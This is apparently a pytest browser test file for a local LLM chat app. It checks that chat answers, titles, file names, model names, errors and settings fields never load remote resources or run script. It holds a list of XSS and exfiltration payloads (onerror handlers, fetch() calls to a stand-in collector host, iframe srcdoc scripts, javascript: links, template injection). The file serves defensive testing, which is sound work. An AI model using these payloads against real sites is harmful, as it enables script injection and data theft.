"""Showing leaks nothing: no text, wherever it is shown, calls another host or runs a script.

A collector stands on another port of this machine. The policy of our pages would refuse a call
there, so a page that only tries is taken for a failure too.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from companion.doctor.findings import Finding
from companion.domain import LOCAL_OWNER, ModelInfo, Thought
from companion.errors import CompanionError, Conflict, EngineError
from companion.ui import doctor_panel
from tests.browser import expect
from tests.desk import CITATION, answered, ask, upload
from tests.fakes import MODEL, Gate, done
from tests.waiting import until

pytestmark = [
    pytest.mark.browser,
    # The server runs in this process, and its warnings are Gradio's, pandas's and uvicorn's own.
    pytest.mark.filterwarnings("ignore"),
]

# `U` is the collector; the number of the vector follows it.
VECTORS = (
    "![a](U)",
    "![b][r]\n\n[r]: U",
    "<img src=U>",
    '<img srcset="U 1x, U 2x">',
    "<picture><source srcset=U><img></picture>",
    '<div style="background:url(U)">c</div>',
    "<style>@import url(U); body { background: url(U) }</style>",
    "<link rel=stylesheet href=U><link rel=prefetch href=U><link rel=preload as=image href=U>",
    "<video poster=U src=U autoplay></video>",
    "<audio src=U autoplay></audio>",
    "<video autoplay><source src=U><track src=U default></video>",
    "<svg><image href=U xlink:href=U /></svg>",
    "<svg><use href=U#x /><style>@import url(U)</style></svg>",
    "<input type=image src=U>",
    "<iframe src=U></iframe>",
    '<iframe srcdoc="<img src=U><script>parent.pwned=1</script>"></iframe>',
    "<object data=U></object><embed src=U>",
    "<script src=U></script><script>window.pwned=1</script>",
    '<meta http-equiv=refresh content="0;url=U"><base href=U>',
    "<img src=x onerror=\"window.pwned=1;fetch('U')\"><svg onload=\"window.pwned=1;fetch('U')\">",
    "<body onload=window.pwned=1 background=U><table background=U><tr><td background=U>d</table>",
    "<details open ontoggle=window.pwned=1><form action=U><button autofocus onfocus=window.pwned=1>",
    "$$\\includegraphics{U} \\href{javascript:window.pwned=1}{e} \\htmlStyle{background:url(U)}{f}$$",
    '```mermaid\ngraph TD; A["<img src=U onerror=window.pwned=1>"]; click A "U"\n```',
    "[g](javascript:window.pwned=1) [h](data:text/html,<script>window.pwned=1</script>)",
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} `${window.pwned=1}`",
)
TRIES = """window.tries = [];
document.addEventListener('securitypolicyviolation',
  refusal => refusal.violatedDirective === 'base-uri' || window.tries.push(refusal.blockedURI));"""


class Collector:
    """A host elsewhere that writes down who calls it."""

    def __init__(self):
        hits = self.hits = []

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self):
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def collector():
    collector = Collector()
    yield collector
    collector.close()


def armed(collector, line=False):
    """All vectors, each with a number of its own; on one line where a place has only one."""
    text = "\n\n".join(
        vector.replace("U", f"{collector.url}/{number}") for number, vector in enumerate(VECTORS)
    )
    return text.replace("\n", " ") if line else text


def watched(desk, **options):
    page = desk.browser_page(**options)
    page.add_init_script(TRIES)
    return desk.open(page)


def assert_harmless(page, collector):
    """After everything that was going to be loaded has been."""
    page.wait_for_function("document.readyState === 'complete'")
    page.evaluate("new Promise(next => requestAnimationFrame(() => requestAnimationFrame(next)))")
    assert page.evaluate("window.tries") == []
    assert page.evaluate("window.pwned") is None
    assert page.title() == "LLM Companion"
    assert collector.hits == []


def test_the_collector_sees_what_a_page_without_our_care_would_call(desk, collector):
    """Else a broken collector would make all the other tests pass."""
    page = desk.browser_page()
    page.set_content(armed(collector))
    page.wait_for_load_state("networkidle")
    assert len(set(collector.hits)) >= 10


def test_an_answer_leaks_nothing_while_it_streams_nor_when_it_is_read_again(desk, collector):
    gate = Gate()
    hostile = armed(collector)
    pieces = [hostile[start : start + 7] for start in range(0, len(hostile), 7)]
    desk.ollama.scripts = [[Thought(hostile), *pieces, gate, " So it is [1].", done()]]
    page = watched(desk)
    ask(page, "How do I add documents?")
    expect(page.locator("#lc-chat")).to_contain_text("constructor.constructor")
    assert_harmless(page, collector)
    gate.open.set()
    answered(page)
    assert_harmless(page, collector)
    page.locator("#lc-chat .thought-group, #lc-chat details").first.click()
    assert_harmless(page, collector)
    page.reload()
    answered(page)
    expect(page.locator("#lc-chat")).to_contain_text("So it is")
    assert_harmless(page, collector)


def test_questions_titles_and_what_failed_leak_nothing(desk, collector):
    hostile = armed(collector, line=True)
    desk.ollama.scripts = [["It began ", CompanionError(f"It broke: {hostile}")]]
    page = watched(desk)
    ask(page, hostile)
    expect(page.locator(".lc-note.is-failed")).to_be_visible()
    assert_harmless(page, collector)
    session = desk.companion.sessions.list(LOCAL_OWNER)[0]
    desk.companion.sessions.rename(
        LOCAL_OWNER,
        session.session_id,
        f"<img src={collector.url}/t onerror=window.pwned=1> ![a]({collector.url}/u)",
    )
    page.reload()
    expect(page.locator(".lc-session").first).to_contain_text("<img src=")
    assert_harmless(page, collector)


def test_a_document_leaks_nothing_in_the_list_in_its_preview_and_beside_an_answer(desk, collector, tmp_path):
    evil = tmp_path / 'light"><img src=x onerror=window.pwned=1> ![a](b) house.md'
    evil.write_text(f"# {armed(collector, line=True)}\n\nThe lighthouse says {armed(collector)}", "utf-8")
    page = watched(desk)
    upload(page, evil)
    listed = page.locator(".lc-doc", has_text="onerror=window.pwned")
    expect(listed.locator(".is-searchable")).to_be_visible(timeout=60_000)
    listed.locator(".lc-docname").click()
    expect(page.locator(".lc-sources")).to_contain_text("The lighthouse says")
    assert_harmless(page, collector)
    page.locator(".lc-close").click()
    page.get_by_role("tab", name="Chat").click()
    desk.says("So it is [1].")
    ask(page, "What does the lighthouse say?")
    answered(page)
    page.locator(CITATION).first.click()
    expect(page.locator(".lc-card.is-hit .lc-text")).to_be_visible()
    assert_harmless(page, collector)


def test_a_model_with_a_hostile_name_leaks_nothing(desk, collector):
    name = f"evil<img src={collector.url}/m onerror=window.pwned=1>![a]({collector.url}/n):1b"
    desk.ollama.offered = [*desk.ollama.offered, ModelInfo(name, "ollama", 1_000_000_000, 4096)]
    page = watched(desk)
    page.get_by_role("tab", name="Settings").click()
    expect(page.get_by_text("evil<img").first).to_be_attached(timeout=20_000)
    assert_harmless(page, collector)


def test_a_link_says_where_it_leads_and_waits_for_a_click(desk, collector):
    desk.says(f"Look [at our bank]({collector.url}/bank?q=1) [1].")
    page = watched(desk)
    ask(page, "How do I add documents?")
    answered(page)
    link = page.locator("#lc-chat a", has_text="at our bank")
    expect(link).to_have_attribute("href", f"{collector.url}/bank?q=1")
    expect(page.locator("#lc-chat")).to_contain_text(f"at our bank ({collector.url}/bank?q=1)")
    assert_harmless(page, collector)


# --- what the page says by itself ---------------------------------------------------------


def test_a_refused_sentence_leaks_nothing_as_a_toast_and_as_a_bar(desk, collector, monkeypatch):
    """Both ways in which a person is told that something was refused, with every vector in the sentence."""
    hostile = armed(collector, line=True)

    async def broken(*_):
        raise EngineError(f"It broke: `{hostile}` {hostile}")

    def refused(*_):
        raise Conflict(f"It broke: `{hostile}` {hostile}")

    page = watched(desk)
    page.get_by_role("tab", name="Settings").click()
    page.locator("#lc-setnav").get_by_role("button", name="Models").click()
    monkeypatch.setattr(desk.ollama, "load", broken)
    page.get_by_role("button", name=f"Load {MODEL.name}", exact=True).click()
    expect(page.locator(".toast-body")).to_contain_text("constructor.constructor")
    assert_harmless(page, collector)
    page.get_by_role("tab", name="Chat").click()
    desk.says("So it is.")
    ask(page, "How do I add documents?")
    answered(page)
    monkeypatch.setattr(desk.companion.sessions, "rename", refused)
    entry = page.locator(".lc-session").first
    entry.hover()
    entry.get_by_role("button", name="Rename").click()
    page.locator(".lc-rename").fill("Another title")
    page.keyboard.press("Enter")
    told = page.locator("#lc-refusal, .toast-body").filter(has_text="constructor.constructor")
    expect(told.first).to_be_visible()
    assert_harmless(page, collector)


def test_refused_files_and_undo_of_hostile_names_leak_nothing(desk, collector):
    """A name has no slash; a backslash is one to a browser."""
    host = collector.url.replace("/", "\\")
    names = [
        f"{number}{vector}"
        for number, vector in enumerate(
            (
                "<img src=x onerror=window.pwned=1>",
                f"<img src={host}\\f1>",
                "![a](x) `<img src=x onerror=window.pwned=1>`",
                "<svg onload=window.pwned=1>",
                "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
                "&lt;img src=x onerror=window.pwned=1&gt;",
                '"><script>window.pwned=1<\\script>',
            )
        )
    ]
    page = watched(desk)
    page.get_by_role("tab", name="Documents").click()
    field = page.locator("#lc-dropzone input[type=file]")
    field.set_input_files([{"name": f"{name}.bin", "mimeType": "", "buffer": b"\0\1\2"} for name in names])
    failed = page.locator("li.is-failed, .lc-doc .is-failed, .lc-error")
    expect(failed.first).to_be_visible(timeout=60_000)
    assert_harmless(page, collector)
    field.set_input_files(
        [{"name": f"{name}.md", "mimeType": "", "buffer": f"It is {name}.".encode()} for name in names]
    )
    own = page.locator(".lc-doc", has=page.get_by_role("button", name="Delete"))
    rows = own.filter(has=page.locator(".is-searchable"))
    expect(rows).to_have_count(len(names), timeout=60_000)
    for left in range(len(names), 0, -1):
        rows.first.get_by_role("button", name="Delete").click()
        expect(rows).to_have_count(left - 1)
        expect(page.locator(".lc-undo")).to_contain_text("What chats have said about it stays.")
        assert_harmless(page, collector)


def test_hostile_titles_leak_nothing_in_the_list_the_undo_and_the_title_of_the_page(desk, collector):
    titles = [vector.replace("U", collector.url)[:110] for vector in VECTORS]
    desk.says("So it is.")
    page = watched(desk)
    ask(page, "How do I add documents?")
    answered(page)
    session = desk.companion.sessions.list(LOCAL_OWNER)[0]
    for title in titles:
        entry = page.locator(".lc-session").first
        entry.hover()
        entry.get_by_role("button", name="Rename").click()
        page.locator(".lc-rename").fill(title.replace("\n", " "))
        page.keyboard.press("Enter")
        until(lambda t=title: stored_title(desk, session) == " ".join(t.split()))
        expect(page.locator(".lc-session").first).to_contain_text(" ".join(title.split())[:40])
    assert_harmless(page, collector)
    for title in titles[:3] + titles[-8:]:
        made = httpx.post(
            f"{desk.url}/api/sessions", json={"title": " ".join(title.split())}, trust_env=False
        )
        page.reload()
        entry = page.locator(f'[data-id="{made.json()["session_id"]}"]').first
        entry.hover()
        entry.get_by_role("button", name="Delete").click()
        expect(page.locator("#lc-sideundo")).to_contain_text("is deleted.")
        assert_harmless(page, collector)


def test_refused_settings_and_the_doctor_leak_nothing(desk, collector, monkeypatch):
    hostile = armed(collector, line=True)
    page = watched(desk)
    page.get_by_role("tab", name="Settings").click()
    embedder = page.locator("#lc-set-embed_light textarea, #lc-set-embed_light input").first
    for vector in (
        f"<img src={collector.url}/s onerror=window.pwned=1>",
        f"![a]({collector.url}/s)",
        hostile,
    ):
        embedder.fill(vector)
        page.locator("#lc-save").click()
        expect(page.locator("#lc-set-embed_light .lc-error")).to_be_visible()
        expect(page.locator("#lc-saved")).to_contain_text("Not saved")
        assert_harmless(page, collector)
    found = (Finding("disk", "error", f"It is ill: {hostile}", f"Do this: {hostile}"),)
    monkeypatch.setattr(doctor_panel, "examine_running", lambda *_: found)
    page.locator("#lc-setnav").get_by_role("button", name="Doctor").click()
    page.locator("#lc-doctorpane").get_by_role("button", name="Examine now").click()
    expect(page.locator("#lc-doctorpane [data-code=disk] small")).to_contain_text("constructor.constructor")
    assert_harmless(page, collector)


def stored_title(desk, session):
    return desk.companion.sessions.get(LOCAL_OWNER, session.session_id).title
